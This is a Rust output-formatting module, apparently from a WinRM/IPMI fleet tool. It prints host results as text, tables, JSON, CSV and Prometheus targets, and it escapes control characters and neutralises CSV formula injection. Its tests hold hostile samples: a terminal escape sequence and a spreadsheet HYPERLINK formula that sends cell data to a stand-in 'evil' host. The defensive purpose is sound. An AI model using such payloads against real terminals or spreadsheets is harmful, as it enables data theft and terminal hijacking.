//! Output formats: ipmitool's text for one host, an aligned table for several, JSON lines and
//! CSV; the fleet summary on stderr. JSON lines and CSV stream out as hosts finish (in input
//! order); only the aligned table waits for every row, to size its columns.

use std::collections::BTreeMap;
use std::io::Write;
use std::time::Duration;

use winrm_ipmi::ErrorKind;

use super::args::Output;
use super::ops::{HostOutput, Op};

/// One host's outcome.
pub type HostResult = (String, Result<HostOutput, winrm_ipmi::Error>);

/// `text` with every control character but line feed and tab (C0, DEL, C1) written as `\xNN`
/// (C1 as `\u{NN}`): what a host sends cannot move the cursor, retitle or clear a terminal.
pub fn printable(text: &str) -> std::borrow::Cow<'_, str> {
    let control = |c: char| c.is_control() && c != '\n' && c != '\t';
    if !text.contains(control) {
        return std::borrow::Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if !control(c) {
            out.push(c);
        } else if (c as u32) < 0x80 {
            out.push_str(&format!("\\x{:02x}", c as u32));
        } else {
            out.push_str(&format!("\\u{{{:x}}}", c as u32));
        }
    }
    std::borrow::Cow::Owned(out)
}

/// A failure in words, for a person (control characters escaped, see [`printable`]).
pub fn explain(host: &str, e: &winrm_ipmi::Error) -> String {
    printable(&explain_raw(host, e)).into_owned()
}

fn explain_raw(host: &str, e: &winrm_ipmi::Error) -> String {
    match e.kind() {
        ErrorKind::AccessDenied => {
            format!("access denied: the account must be a local administrator on {host} ({e})")
        }
        ErrorKind::Auth
            if matches!(
                e,
                winrm_ipmi::Error::Transport(winrm_ipmi::transport::TransportError::Proxy {
                    failure: winrm_ipmi::transport::ProxyFailure::AuthRequired {
                        credentials_given: false,
                        ..
                    },
                    ..
                })
            ) =>
        {
            format!("{e}: give --proxy-user and WINRM_PROXY_PASSWORD")
        }
        ErrorKind::Auth => format!("authentication failed: {e}"),
        ErrorKind::Connect
            if matches!(
                e,
                winrm_ipmi::Error::Transport(winrm_ipmi::transport::TransportError::Connect { .. })
            ) =>
        {
            format!("cannot reach {host}: {e}")
        }
        ErrorKind::Connect => format!("connection to {host} failed: {e}"),
        ErrorKind::Tls => {
            format!("TLS failed: {e} (use --cacert, --thumbprint, or --insecure for a lab)")
        }
        _ => e.to_string(),
    }
}

/// Prints results as they come, and counts them for the summary.
pub struct Printer<'o> {
    output: Output,
    op: &'o Op,
    /// One host known in advance: ipmitool's own layout.
    single: bool,
    /// The columns, once a host has succeeded (CSV: failures before that wait in `pending`).
    columns: Option<Vec<&'static str>>,
    pending: Vec<HostResult>,
    /// The table's rows (text output for several hosts).
    rows: Vec<Vec<String>>,
    total: usize,
    ok: usize,
    /// Hosts whose result carries an alert.
    alerts: usize,
    by_kind: BTreeMap<&'static str, usize>,
    /// Lines are printed around it.
    progress: Option<indicatif::ProgressBar>,
    /// Standard output went away (`| head`): the run goes on, printing nothing more.
    closed: bool,
    /// file_sd target groups (`--output prometheus-sd`).
    sd: Vec<serde_json::Value>,
}

impl<'o> Printer<'o> {
    /// A printer for `op`'s results; `single` when exactly one host is known to come.
    pub fn new(
        output: Output,
        op: &'o Op,
        single: bool,
        progress: Option<indicatif::ProgressBar>,
    ) -> Self {
        Printer {
            output,
            op,
            single,
            columns: None,
            pending: Vec::new(),
            rows: Vec::new(),
            total: 0,
            ok: 0,
            alerts: 0,
            by_kind: BTreeMap::new(),
            progress,
            closed: false,
            sd: Vec::new(),
        }
    }

    /// Results so far.
    pub fn count(&self) -> usize {
        self.total
    }

    /// One line on standard output.
    fn line(&mut self, text: impl std::fmt::Display) {
        self.write(&format!("{text}\n"));
    }

    /// Text on standard output, around the progress bar; a closed output is not an error.
    /// Control characters (a host's strings: OS caption, FRU fields, sensor names) are written
    /// as `\xNN`, never raw to a terminal.
    fn write(&mut self, text: &str) {
        if self.closed {
            return;
        }
        let text = &*printable(text);
        let write = || {
            let mut out = std::io::stdout().lock();
            out.write_all(text.as_bytes()).and_then(|()| out.flush())
        };
        let written = match &self.progress {
            Some(bar) => bar.suspend(write),
            None => write(),
        };
        if written.is_err() {
            self.closed = true;
        }
    }

    /// One host's result.
    pub fn push(&mut self, result: HostResult) {
        self.total += 1;
        match &result.1 {
            Ok(o) => {
                self.ok += 1;
                if o.alert {
                    self.alerts += 1;
                }
            }
            Err(e) => *self.by_kind.entry(e.kind().as_str()).or_default() += 1,
        }
        match self.output {
            Output::PrometheusSd => {
                // A BMC address the host reported, with the host's name beside it; not one that
                // `correlate --verify` flagged as another machine's.
                if let (host, Ok(o)) = &result
                    && !o.alert
                    && let Some(ip) = o.json["bmc_ip"]
                        .as_str()
                        .filter(|ip| !ip.is_empty() && *ip != "0.0.0.0")
                {
                    self.sd.push(serde_json::json!({
                        "targets": [ip],
                        "labels": {
                            "host": o.json["host_name"],
                            "winrm_endpoint": host,
                            "bmc_mac": o.json["bmc_mac"],
                        },
                    }));
                }
                if let (host, Err(e)) = &result {
                    eprintln!("{host}: {}", explain(host, e));
                }
            }
            Output::Json => {
                let (host, r) = &result;
                let v = match r {
                    Ok(o) => serde_json::json!({"host": host, "ok": true, "result": o.json}),
                    Err(e) => {
                        serde_json::json!({"host": host, "ok": false, "error": e.kind(), "message": explain(host, e)})
                    }
                };
                self.line(v);
            }
            Output::Csv => {
                if self.columns.is_none()
                    && let Ok(o) = &result.1
                {
                    self.set_columns(o.columns.iter().map(|(c, _)| *c).collect());
                }
                match &self.columns {
                    Some(columns) => {
                        let row = csv_row(&result, columns);
                        self.line(row);
                    }
                    None => self.pending.push(result),
                }
            }
            Output::Text if self.single => {
                let (host, r) = &result;
                match r {
                    Ok(o) => {
                        let text = o.text.clone();
                        self.write(&text);
                    }
                    Err(e) => eprintln!(
                        "{}",
                        self.op.failure_text(e).unwrap_or_else(|| explain(host, e))
                    ),
                }
            }
            Output::Text => {
                let (host, r) = result;
                if self.columns.is_none()
                    && let Ok(o) = &r
                {
                    self.columns = Some(o.columns.iter().map(|(c, _)| *c).collect());
                }
                let mut row = vec![host.clone()];
                match r {
                    Ok(o) => row.extend(o.columns.into_iter().map(|(_, v)| v)),
                    Err(e) => row.push(format!("FAILED: {}", explain(&host, &e))),
                }
                self.rows.push(row);
            }
        }
    }

    /// The CSV header, then whatever waited for it.
    fn set_columns(&mut self, columns: Vec<&'static str>) {
        let mut header = vec!["host", "ok", "error"];
        header.extend(&columns);
        self.line(header.join(","));
        for r in std::mem::take(&mut self.pending) {
            let row = csv_row(&r, &columns);
            self.line(row);
        }
        self.columns = Some(columns);
    }

    /// Ends the output (the table, a CSV header if no host succeeded) and prints the summary;
    /// returns the number of hosts that failed.
    pub fn finish(mut self, elapsed: Duration) -> usize {
        if self.output == Output::Csv && self.columns.is_none() {
            self.set_columns(Vec::new());
        }
        if self.output == Output::PrometheusSd {
            let sd = serde_json::to_string_pretty(&self.sd).unwrap_or_default();
            self.line(sd);
        }
        if !self.rows.is_empty() {
            let mut header = vec!["HOST".to_string()];
            header.extend(
                self.columns
                    .iter()
                    .flatten()
                    .map(|c| c.to_ascii_uppercase()),
            );
            self.rows.insert(0, header);
            for line in table_lines(&self.rows) {
                self.line(line);
            }
        }
        let failed = self.total - self.ok;
        if self.alerts > 0 {
            eprintln!("{} host(s) flagged (see the results)", self.alerts);
        }
        if self.total > 1 || failed > 0 && self.output != Output::Text {
            let kinds: Vec<String> = self
                .by_kind
                .iter()
                .map(|(k, n)| format!("{k}: {n}"))
                .collect();
            eprintln!(
                "{} hosts in {:.2} s: {} ok, {failed} failed{}",
                self.total,
                elapsed.as_secs_f64(),
                self.ok,
                if kinds.is_empty() {
                    String::new()
                } else {
                    format!(" ({})", kinds.join(", "))
                }
            );
        }
        failed + self.alerts
    }
}

fn csv_row((host, r): &HostResult, columns: &[&'static str]) -> String {
    let mut row = vec![csv(host)];
    match r {
        Ok(o) => {
            row.extend(["true".to_string(), String::new()]);
            row.extend(o.columns.iter().map(|(_, v)| csv(v)));
        }
        Err(e) => {
            row.extend(["false".to_string(), csv(&explain(host, e))]);
            row.extend(columns.iter().map(|_| String::new()));
        }
    }
    row.join(",")
}

/// Rows aligned in columns, the last column unpadded.
fn table_lines(rows: &[Vec<String>]) -> Vec<String> {
    let widths: Vec<usize> = (0..rows.iter().map(Vec::len).max().unwrap_or(0))
        .map(|i| {
            rows.iter()
                .filter_map(|r| r.get(i))
                .map(|c| c.chars().count())
                .max()
                .unwrap_or(0)
        })
        .collect();
    let mut lines = Vec::with_capacity(rows.len());
    for row in rows {
        let last = row.len() - 1;
        let line: Vec<String> = row
            .iter()
            .enumerate()
            .map(|(i, c)| {
                if i == last {
                    c.clone()
                } else {
                    format!("{c:<w$}", w = widths[i])
                }
            })
            .collect();
        lines.push(line.join("  ").trim_end().to_string());
    }
    lines
}

/// A CSV field (RFC 4180): quoted when it holds a comma, quote, CR or LF. A field a
/// spreadsheet would take for a formula (starting with `=`, `+`, `-`, `@`, tab or CR) gets a
/// leading `'` (OWASP's advice), unless it is a number: a host's strings must not run as
/// formulas.
fn csv(s: &str) -> String {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
    let s = if formula {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_hosts_control_characters_never_reach_the_terminal() {
        let hostile = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mRED\u{9b}31m\r\nnext\tcol";
        let shown = printable(hostile);
        assert_eq!(
            shown,
            "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mRED\\u{9b}31m\\x0d\nnext\tcol"
        );
        assert!(!shown.contains(|c: char| c.is_control() && c != '\n' && c != '\t'));
        assert!(matches!(
            printable("plain text\n"),
            std::borrow::Cow::Borrowed(_)
        ));
    }

    #[test]
    fn csv_fields_are_quoted_and_never_formulas() {
        assert_eq!(csv("a\rb"), "\"a\rb\"");
        assert_eq!(csv("a,\"b\""), "\"a,\"\"b\"\"\"");
        assert_eq!(
            csv("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""
        );
        assert_eq!(csv("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv("+1"), "+1"); // a number stays a number
        assert_eq!(csv("-40.5"), "-40.5");
        assert_eq!(csv("-cmd"), "'-cmd");
        assert_eq!(csv("Fan2A"), "Fan2A");
    }
}
